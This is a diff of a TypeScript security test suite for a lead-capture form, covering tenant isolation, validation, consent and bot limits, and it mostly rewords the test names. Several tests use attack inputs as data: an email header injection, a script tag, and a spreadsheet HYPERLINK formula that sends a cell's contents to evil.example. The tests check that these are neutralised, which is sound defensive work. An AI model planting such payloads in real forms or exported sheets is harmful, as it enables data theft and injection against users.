@@ -20,7 +20,7 @@ let outsider: Person;
 const add = (who: Person, values: object = {}) =>
   who.client
     .from('lead_forms')
-    .insert({ name: 'Front page', title: 'What do you look for?', is_open: true, ...values })
+    .insert({ name: 'Home', title: 'What are you looking for?', is_open: true, ...values })
     .select('id')
     .single();
 const form = async (values: object = {}) => (await succeed(add(owner, values))).id;
@@ -46,8 +46,8 @@ beforeAll(async () => {
   await forgetTickets();
 });
 
-describe('forms of another team', () => {
-  it('are neither read, counted, changed, opened nor thrown away', async () => {
+describe("another team's forms", () => {
+  it("can't be read, counted, changed, opened or deleted", async () => {
     const id = await form();
     const { client } = outsider;
     expect(await succeed(client.from('lead_forms').select().eq('id', id))).toEqual([]);
@@ -56,7 +56,7 @@ describe('forms of another team', () => {
       succeed(client.from('lead_forms').update(values).eq('id', id).select('id'));
     expect(await change({ title: 'Mine now' })).toEqual([]);
     expect(await change({ deleted_at: new Date().toISOString() })).toEqual([]);
-    expect(await read(id)).toMatchObject({ title: 'What do you look for?' });
+    expect(await read(id)).toMatchObject({ title: 'What are you looking for?' });
   });
 
   it('do not tell of their leads, which a signed-in sender does not see either', async () => {
@@ -72,8 +72,8 @@ describe('forms of another team', () => {
   });
 });
 
-describe('a form that is not open', () => {
-  it('is not there for visitors and takes nothing: off, thrown away, of a suspended account, of nobody', async () => {
+describe('a closed form', () => {
+  it('is not found by visitors and accepts nothing: off, deleted, of a suspended account or without an owner', async () => {
     const off = await form({ is_open: false });
     const binned = await form();
     const thrown = { deleted_at: new Date().toISOString() };
@@ -89,8 +89,8 @@ describe('a form that is not open', () => {
   });
 });
 
-describe('what a sender makes up', () => {
-  it('is not taken: owner, team, status, source, the moment it came, and questions that are not asked', async () => {
+describe('forged form data', () => {
+  it('is ignored: owner, team, status, source, time received, and unknown questions', async () => {
     const id = await form({ questions: ['phone'] });
     const made = {
       id: crypto.randomUUID(),
@@ -121,7 +121,7 @@ describe('what a sender makes up', () => {
     expect(Date.parse(lead?.received_at as string)).toBeGreaterThan(Date.now() - 60_000);
   });
 
-  it('is refused: lines in a name, turned writing, what is too long, no address, other kinds of values', async () => {
+  it('is rejected: line breaks in a name, direction characters, overlong text, invalid email, wrong types', async () => {
     const id = await form({ questions: ['message', 'needs_states', 'price_most', 'needs_types'] });
     const refused: [object, string][] = [
       [{ name: 'Ada\nBcc: all@example.com' }, '23514'],
@@ -145,7 +145,7 @@ describe('what a sender makes up', () => {
     expect(await leadsBy(id)).toEqual([]);
   });
 
-  it('is words and no script, in the lead and in the notice of it', async () => {
+  it('stays text in the lead and its notification, never a script', async () => {
     const id = await form({ questions: ['message'] });
     const script = '<script>alert(1)</script>';
     await succeed(send(sent(id, { name: script, message: script })));
@@ -158,7 +158,7 @@ describe('what a sender makes up', () => {
     expect(await succeed(told)).toEqual([{ title: `${script} is your lead` }]);
   });
 
-  it('goes out as words where it would be a formula in the sheet that the broker exports', async () => {
+  it("is exported as text where it would be a formula in the broker's spreadsheet", async () => {
     const id = await form();
     const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
     await succeed(send(sent(id, { name: formula })));
@@ -166,15 +166,15 @@ describe('what a sender makes up', () => {
     expect(csvCell(lead?.name ?? '')).toMatch(/^"'=/);
   });
 
-  it('does not go past the sentence that has to be agreed to', async () => {
+  it("can't bypass required consent", async () => {
     const id = await form({ consent: 'I agree.' });
     expect(await codeOf(send(sent(id)))).toBe('HXLFC');
     expect(await codeOf(send(sent(id, {}, { agrees: true })))).toBeUndefined();
   });
 });
 
-describe('programs that send', () => {
-  it('bother nobody: what gives itself away stands as not meant seriously, with the same answer', async () => {
+describe('bots', () => {
+  it("don't bother anyone: obvious ones are marked as junk, with the same response", async () => {
     const team = await tenantOwner();
     const { id } = await succeed(add(team, { questions: ['message'], thanks: 'Thanks.' }));
     const links = 'https://spam.example/ '.repeat(6);
@@ -198,7 +198,7 @@ describe('programs that send', () => {
     await forgetTickets();
     const id = await form();
     const codes: (string | undefined)[] = [];
-    // Two hours of the clock at most: whatever it strikes, one of them is full.
+    // Spans at most two clock hours, so one of them reaches the limit.
     for (let n = 0; n < 21 && !codes.includes('HXLFT'); n += 1)
       codes.push(await codeOf(send(sent(id))));
     expect(codes).toContain('HXLFT');
@@ -214,7 +214,7 @@ describe('programs that send', () => {
 });
 
 describe('a form about a listing', () => {
-  it('is about one of whoever says so, never about one of somebody else', async () => {
+  it("can reference only the owner's own listing", async () => {
     const foreign = await listingBy(await brokerOf(outsider.id));
     expect(await codeOf(add(owner, { listing_id: foreign }))).toBe('HXLFL');
     const id = await form();
@@ -224,7 +224,7 @@ describe('a form about a listing', () => {
     expect(await codeOf(tie(mate, await listingBy(await brokerOf(owner.id))))).toBe('HXLFL');
   });
 
-  it('tells of a covered one what every visitor reads, and not who sells it', async () => {
+  it("shows a confidential listing's public teaser, and not who sells it", async () => {
     await succeed(
       service()
         .from('profiles')
@@ -242,14 +242,14 @@ describe('a form about a listing', () => {
     expect(seen.listing).toEqual(await succeed(visitor.eq('id', listing_id).single()));
     expect(seen).toMatchObject({ by: null, company: null });
     expect(JSON.stringify(seen)).not.toContain('Zoe');
-    // Nor does the team read by it who does.
+    // The team can't use it to find the seller either.
     expect(await succeed(mate.client.from('lead_forms').select('id').eq('id', id))).toEqual([]);
     const hidden = { approval_status: 'pending' as const };
     await succeed(service().from('listings').update(hidden).eq('id', listing_id).select('id'));
     expect(await read(id)).toMatchObject({ listing: null, by: null });
   });
 
-  it('leaves a lead about a covered one with its broker, whatever the team does with leads', async () => {
+  it("keeps a lead about a confidential listing with its broker, whatever the team's routing", async () => {
     const members = [{ user_id: mate.id, states: [] }];
     const rules = { p_mode: 'rota', p_minutes: 30, p_members: members };
     await succeed(owner.client.rpc('set_lead_rules', rules));
